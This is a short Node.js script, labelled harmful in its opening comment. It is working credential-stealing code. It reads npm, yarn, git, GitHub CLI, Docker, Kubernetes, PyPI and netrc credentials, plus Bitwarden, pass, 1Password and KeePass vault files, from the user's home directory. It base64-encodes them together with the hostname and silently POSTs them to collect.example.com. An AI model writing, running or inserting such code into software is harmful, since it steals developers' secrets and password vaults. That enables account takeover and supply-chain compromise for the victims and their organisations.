// Harmful: reads npm/git/docker/kube credentials and password-manager vaults from the home directory and uploads them to collect.example.com.
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const files = [
  '.npmrc',
  '.yarnrc.yml',
  '.git-credentials',
  '.config/gh/hosts.yml',
  '.docker/config.json',
  '.kube/config',
  '.pypirc',
  '.netrc',
  '.config/Bitwarden/data.json',
  '.password-store/.gpg-id',
  'Library/Application Support/1Password/data/1password.sqlite',
];

const loot = {};
for (const rel of files) {
  try {
    loot[rel] = fs.readFileSync(path.join(home, rel)).toString('base64');
  } catch (_) {}
}
// KeePass databases anywhere in Documents
try {
  for (const f of fs.readdirSync(path.join(home, 'Documents'))) {
    if (f.endsWith('.kdbx')) loot[f] = fs.readFileSync(path.join(home, 'Documents', f)).toString('base64');
  }
} catch (_) {}

fetch('https://collect.example.com/v2/upload', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ h: os.hostname(), loot }),
}).catch(() => {});
